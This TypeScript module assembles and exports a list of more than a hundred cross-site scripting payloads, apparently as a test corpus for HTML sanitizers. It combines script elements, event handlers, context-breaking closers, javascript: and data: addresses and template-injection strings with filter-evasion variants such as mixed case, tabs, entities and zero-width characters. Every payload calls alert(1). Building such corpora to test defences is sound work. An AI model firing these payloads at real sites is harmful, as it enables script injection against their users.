/**
 * Ways to have a browser run a script that somebody sends as a name or a value: 100 and more, each different. Every one
 * calls `alert`, so that one that works shows a dialog. They are put together from where a text may stand (an element, an
 * attribute, a script, a style, an address) and from what runs there (WHATWG HTML, "Scripting"; OWASP, "XSS Filter Evasion").
 */
const elements = [
  "<script>alert(1)</script>",
  "<script src=data:,alert(1)></script>",
  "<script type=module>alert(1)</script>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
  "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
  "<object data=javascript:alert(1)></object>",
  "<embed src=javascript:alert(1)>",
  "<form action=javascript:alert(1)><button autofocus onfocus=this.click()>x</button></form>",
  "<isindex action=javascript:alert(1) type=image>",
  "<base href=javascript:alert(1)//>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<link rel=stylesheet href=javascript:alert(1)>",
  "<template><script>alert(1)</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
  "<style>@import 'javascript:alert(1)';</style>",
  "<xss style='behavior:url(#default#time2)' onbegin=alert(1)>",
];
const handlers = [
  ["img src=x", "onerror"],
  ["img src=data:,", "onload"],
  ["svg", "onload"],
  ["body", "onload"],
  ["body", "onpageshow"],
  ["input autofocus", "onfocus"],
  ["select autofocus", "onfocus"],
  ["textarea autofocus", "onfocus"],
  ["details open", "ontoggle"],
  ["video src=x", "onerror"],
  ["audio src=x", "onerror"],
  ["video autoplay src=data:video/mp4,", "onloadstart"],
  ["marquee", "onstart"],
  ["div style=animation-name:x", "onanimationstart"],
  ["div contenteditable autofocus tabindex=1", "onfocus"],
  ["dialog open", "onclose"],
  ["object data=x", "onerror"],
  ["source src=x", "onerror"],
  ["track src=x", "onerror"],
  ["p tabindex=1", "onpointerenter"],
] as const;
const closers = [
  `"`,
  "'",
  "`",
  `">`,
  "'>",
  "</title>",
  "</textarea>",
  "</style>",
  "</script>",
  "-->",
  "]]>",
  "</option></select>",
];
const addresses = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java\tscript:alert(1)",
  "javascript://%0aalert(1)",
  "data:text/html,<script>alert(1)</script>",
  "vbscript:msgbox(1)",
  "blob:javascript:alert(1)",
];
const templates = [
  "{{constructor.constructor('alert(1)')()}}",
  "$" + "{alert(1)}",
  "#{alert(1)}",
  "<%= alert(1) %>",
  "[[$" + "{alert(1)}]]",
  "{alert(1)}",
  "';alert(1)//",
  "\\';alert(1)//",
  "</script><script>alert(1)//",
  "<!--<script>alert(1)-->",
];

export const scriptPayloads: readonly string[] = [
  ...new Set([
    ...elements,
    ...handlers.map(([tag, event]) => `<${tag} ${event}=alert(1)>`),
    ...handlers.slice(0, 12).map(([tag, event]) => `<${tag.toUpperCase()} ${event}\t=\t"&#97;lert(1)">`),
    ...closers.map((closer) => `${closer}<img src=x onerror=alert(1)>`),
    ...closers.slice(0, 3).map((closer) => `${closer} onmouseover=${closer}alert(1)`),
    ...addresses,
    ...addresses.slice(0, 4).map((address) => `<a href="${address}" autofocus onfocus=this.click()>x</a>`),
    ...templates,
    ...handlers.slice(0, 12).map(([tag, event]) => `\u0000<${tag} ${event}=alert(1)>`.replace("\u0000", "\u200b")),
  ]),
];
